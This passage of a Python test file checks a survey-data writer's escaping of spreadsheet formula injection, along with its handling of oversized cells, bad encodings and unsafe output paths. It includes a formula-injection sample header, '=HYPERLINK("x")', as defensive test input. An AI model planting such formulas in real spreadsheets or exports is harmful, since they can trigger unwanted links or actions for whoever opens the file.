    paths = _writers(hostile_frame, firm_q, tmp_path, fmt)
    for path in paths:
        cells = _cells(path, fmt)
        assert _live(cells) == [], (path.name, _live(cells)[:5])
        assert f"'{HYPERLINK}" in cells and "'@R006" in cells, path.name  # escaped, kept


@pytest.mark.parametrize("fmt", SPREADSHEETS)
def test_escaping_can_be_turned_off(tmp_path, hostile_frame, firm_q, fmt):
    with sk.formula_escaping(False):
        path = write_responses(hostile_frame, tmp_path / f"x.{fmt}", firm_q, format=fmt) \
            if fmt != "qualtrics" else write_responses(hostile_frame, tmp_path / "x.csv", firm_q,
                                                        format=fmt)
    if fmt == "xlsx":
        import openpyxl

        ws = openpyxl.load_workbook(path).active
        assert any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    else:
        assert HYPERLINK in _cells(path, fmt)


@pytest.mark.parametrize("fmt", ["sav", "dta", "parquet"])
def test_non_spreadsheets_keep_text_as_typed(tmp_path, hostile_frame, firm_q, fmt):
    path = write_responses(hostile_frame, tmp_path / f"x.{fmt}", firm_q)
    back = read_responses(path, firm_q)
    assert back["comments"].tolist() == hostile_frame["comments"].tolist()
    assert back.loc["R001", "fingerprint"] == HYPERLINK
    assert back.index[-1] == "@R006"


@pytest.mark.parametrize("fmt,outcome", [
    pytest.param("xlsx", Err(DataError, r"row 3 of the sheet, column 'Q16' \([A-Z]+\) holds "
                                        r"40,000 characters, more than the 32,767 an Excel cell "
                                        r"can hold.*write CSV or Parquet", row=3, column="Q16"),
                 id="xlsx-refuses"),
    pytest.param("csv", None, id="csv-keeps-all"),
    pytest.param("parquet", None, id="parquet-keeps-all"),
])
def test_answer_longer_than_an_excel_cell(tmp_path, firm_raw, firm_q, fmt, outcome):
    firm_raw["Q16"] = firm_raw["Q16"].astype(object)
    firm_raw.loc[1, "Q16"] = "x" * 40_000
    src = tmp_path / "src.csv"
    firm_raw.to_csv(src, index=False)
    frame = read_responses(src, firm_q)
    target = tmp_path / f"out.{fmt}"
    if outcome is not None:
        with pytest.raises(outcome.cls, match=outcome.match) as info:
            write_responses(frame, target, firm_q)
        assert (info.value.row, info.value.column) == (outcome.row, outcome.column)
        assert not target.exists() and list(tmp_path.glob(".out.*")) == []
    else:
        back = read_responses(write_responses(frame, target, firm_q), firm_q)
        assert len(back.loc["R002", "comments"]) == 40_000


WRITE_FAULTS = [
    pytest.param(lambda f, q, d: write_responses(f.assign(comments=["ok", "bad\x07bell", None,
                                                                    None, None, None]),
                                                 d / "x.xlsx", q),
                 Err(DataError, r"row 3 of the sheet, column 'Q16' \([A-Z]+\) holds the control "
                                r"character '\\x07'", row=3, column="Q16"),
                 id="control-character-in-xlsx"),
    pytest.param(lambda f, q, d: write_responses(f, d / "x.csv", q, encoding="cp932")
                 if (f.__setitem__("comments", ["😀"] + [None] * 5) is None) else None,
                 Err(DataError, "cannot be written in cp932; write UTF-8 instead"),
                 id="character-outside-cp932"),
    # names SPSS/Stata cannot hold ("1 source", 40 characters in Stata) are renamed, not
    # refused: tests/test_writers.py::test_extra_columns_with_illegal_names_are_renamed
    pytest.param(lambda f, q, d: write_responses(f, d / "x.json", q),
                 Err(DataError, "unsupported file extension '.json'"), id="unknown-extension"),
    pytest.param(lambda f, q, d: write_responses(f, d / "x.csv", q, format="html"),
                 Err(UsageError, "unknown format 'html'"), id="unknown-format"),
    pytest.param(lambda f, q, d: write_responses(f, d, q, format="csv"),
                 Err(UsageError, "this is a folder; give the path of the file to write"),
                 id="destination-is-a-folder"),
    pytest.param(lambda f, q, d: ((d / "file").write_text("x"),
                                  write_responses(f, d / "file" / "x.csv", q)),
                 Err(ReportError, "cannot create the output folder"),
                 id="destination-under-a-file"),
    pytest.param(lambda f, q, d: write_responses(f["sector"], d / "x.csv", q),
                 Err(UsageError, "write_responses needs a DataFrame, not Series"),
                 id="not-a-frame"),
    pytest.param(lambda f, q, d: write_responses(
        f.assign(sector=f["sector"].astype(object).where(f.index != "R003", "retail")),
        d / "x.csv", q),
                 Err(DataError, "are not option keys of question 'sector'", column="sector"),
                 id="value-not-an-option-key"),
    pytest.param(lambda f, q, d: write_responses(f.drop(columns="sector"), d / "x.csv", q),
                 Err(DataError, r"the frame lacks 1 variable\(s\) of the questionnaire: 'sector'"),
                 id="frame-lacks-a-variable"),
]


@pytest.mark.parametrize("write,outcome", WRITE_FAULTS)
def test_write_faults(tmp_path, labelled_frame, firm_q, write, outcome):
    folder = tmp_path / "out"
    folder.mkdir()
    _expect(outcome, lambda: write(labelled_frame.copy(), firm_q, folder))
    assert [p.name for p in folder.iterdir() if p.name.startswith(".")] == []


@pytest.fixture
def labelled_frame(firm_csv, firm_q):
    return read_responses(firm_csv, firm_q)


def test_convert_refuses_to_write_over_its_input(tmp_path, firm_csv, firm_q):
    before = firm_csv.read_bytes()
    with output_policy(inputs=[firm_csv]), pytest.raises(
            UsageError, match="refusing to write over an input file"):
        convert_responses(firm_csv, firm_csv, firm_q)
    assert firm_csv.read_bytes() == before


def test_header_names_are_escaped(tmp_path, labelled_frame):
    frame = labelled_frame.rename(columns={"comments": '=HYPERLINK("x")', "os": "-os"})
    for fmt in ("csv", "xlsx"):
        path = write_responses(frame, tmp_path / f"x.{fmt}")
        cells = _cells(path, fmt)
        assert "'=HYPERLINK(\"x\")" in cells and "'-os" in cells and _live(cells) == []

